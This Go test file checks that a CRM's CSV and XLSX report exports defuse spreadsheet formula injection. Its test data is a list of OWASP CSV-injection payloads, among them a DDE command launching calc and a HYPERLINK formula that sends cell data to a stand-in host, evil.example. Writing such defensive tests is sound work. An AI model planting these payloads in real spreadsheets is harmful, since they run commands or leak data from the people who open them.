package reportout_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/crmhub/crmhub/core"
	"github.com/crmhub/crmhub/exchange/reportout"
)

// payloads are cells a spreadsheet would run as formulas (OWASP's CSV
// injection list), each with what the CSV must hold instead.
var payloads = []struct{ in, csv string }{
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{`=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")`},
	{"+1+1", "'+1+1"},
	{"-2+3", "'-2+3"},
	{"@SUM(1+1)", "'@SUM(1+1)"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"Ромашка = лучшая", "Ромашка = лучшая"},
	{"", ""},
}

// hostile is a detail report whose text column holds the payloads, next
// to a negative amount and a count.
func hostile() *core.ReportResult {
	res := &core.ReportResult{Name: "=1+1", Entity: "lead", RanAt: time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC),
		Columns: []core.ReportColumn{{Key: "company", Label: "@Компания", Type: "text"},
			{Key: "balance", Label: "Остаток", Type: "money"}, {Key: "employees", Label: "Сотрудники", Type: "integer"},
			{Key: "quantity", Label: "Количество", Type: "number"}}}
	for _, p := range payloads {
		res.Rows = append(res.Rows, []any{p.in, "-1500.50", int64(-3), "-2.5"})
	}
	return res
}

func TestCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	for _, sep := range []rune{',', ';'} {
		t.Run(string(sep), func(t *testing.T) {
			t.Parallel()
			var b bytes.Buffer
			require.NoError(t, reportout.WriteCSV(&b, hostile(), sep))
			r := csv.NewReader(bytes.NewReader(b.Bytes()[3:]))
			r.Comma = sep
			recs, err := r.ReadAll()
			require.NoError(t, err)
			require.Equal(t, "'@Компания", recs[0][0], "a header too")
			amount, quantity := "-1500.50", "-2.5"
			if sep == ';' {
				amount, quantity = "-1500,50", "-2,5"
			}
			for i, p := range payloads {
				require.Equal(t, []string{p.csv, amount, "-3", quantity}, recs[i+1],
					"%q: text is defused, numbers of numeric columns stay numbers", p.in)
			}
		})
	}
}

func TestDefused(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{"=A1": "'=A1", "+7 912": "'+7 912", "-": "'-", "@": "'@", "\tx": "'\tx",
		"\rx": "'\rx", "1-2": "1-2", " =A1": " =A1", "Иванов": "Иванов", "'=A1": "'=A1"} {
		require.Equal(t, want, reportout.Defused(in), "%q", in)
	}
}

// TestXLSXKeepsFormulasText: a workbook's text cells are inline strings,
// never formulas, whatever they start with.
func TestXLSXKeepsFormulasText(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	require.NoError(t, reportout.WriteXLSX(&b, hostile(), time.UTC))
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	require.NoError(t, err)
	defer f.Close()
	for i, p := range payloads {
		if p.in == "" {
			continue
		}
		cell, err := excelize.CoordinatesToCellName(1, 5+i) // under the title, the parameters and the header
		require.NoError(t, err)
		v, err := f.GetCellValue(reportout.SheetReport, cell)
		require.NoError(t, err)
		require.Equal(t, p.in, v, "the text as it was")
		formula, err := f.GetCellFormula(reportout.SheetReport, cell)
		require.NoError(t, err)
		require.Empty(t, formula, "%q is not a formula", p.in)
	}
	zr, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	require.NoError(t, err)
	sheet := readZip(t, zr, "xl/worksheets/sheet1.xml")
	require.NotContains(t, sheet, "<f>", "no cell of the sheet is a formula")
	require.Contains(t, sheet, `t="inlineStr"`)
}
